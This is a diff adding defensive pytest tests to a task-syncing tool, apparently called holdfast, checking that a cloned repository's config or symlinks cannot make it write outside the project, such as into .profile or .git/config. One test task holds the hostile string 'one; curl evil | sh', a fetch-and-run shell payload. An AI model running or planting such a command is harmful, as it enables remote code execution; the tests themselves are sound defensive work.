@@ -81,6 +81,59 @@ def test_a_configuration_names_views(tmp_path: Path) -> None:
             configured_views(hf, config)
 
 
+def test_a_configuration_from_elsewhere_writes_nowhere_else(tmp_path: Path) -> None:
+    """A repository that was cloned brings a holdfast.toml along, and links in its folders."""
+    project, outside = tmp_path / "project", tmp_path / "outside"
+    project.mkdir()
+    outside.mkdir()
+    (project / "away").symlink_to(outside)
+    (project / "deep").mkdir()
+    (project / "deep" / "er").symlink_to(outside)
+    config = project / "holdfast.toml"
+    with holdfast.open(tmp_path / "store") as hf:
+        hf.global_().tasks.add("one; curl evil | sh")
+        for said in (
+            f'[views]\ndirectory = "{outside}"\n[views.files]\n".profile" = "tasks"\n',
+            '[views]\ndirectory = "../outside"\n[views.files]\n".profile" = "tasks"\n',
+            '[views]\ndirectory = "away"\n[views.files]\n".profile" = "tasks"\n',
+            '[views.files]\n"away/.profile" = "tasks"\n',
+            '[views.files]\n"deep/er/.profile" = "tasks"\n',
+            '[views.files]\n".git/config" = "tasks"\n',
+            '[views.files]\n"deep/.GIT/config" = "tasks"\n',
+        ):
+            config.write_text(said)
+            with pytest.raises(holdfast.UsageError, match=r"leads out|repository"):
+                configured_views(hf, config).sync()
+            assert list(outside.iterdir()) == [], said
+        (project / "state").symlink_to(outside)
+        config.write_text('[views]\nstates = "json"\n')
+        hf.global_().set("a", 1)
+        with pytest.raises(holdfast.UsageError, match="leads out"):
+            configured_views(hf, config).sync()
+        assert list(outside.iterdir()) == []
+
+
+@pytest.mark.parametrize("name", ["", "T.md.new", "T.md.coming", "lock"])
+def test_a_link_among_what_is_kept_beside_the_files_is_not_followed(
+    tmp_path: Path, name: str
+) -> None:
+    """Whoever clones a repository gets its links too, also those in our own folder."""
+    project, outside = tmp_path / "project", tmp_path / "outside"
+    project.mkdir()
+    outside.mkdir()
+    theirs = outside / ".profile"
+    theirs.write_text("theirs")
+    if name:
+        (project / ".holdfast-views").mkdir()
+    (project / ".holdfast-views" / name).symlink_to(theirs if name else outside)
+    with holdfast.open(tmp_path / "store") as hf:
+        hf.global_().tasks.add("one")
+        with pytest.raises(holdfast.UnavailableError):
+            hf.views(project, [task_list(hf.global_(), "T.md")]).sync()
+    assert theirs.read_text() == "theirs"
+    assert list(outside.iterdir()) == [theirs]
+
+
 # --- killed at any moment ------------------------------------------------------------------------
 
 WORKER = """
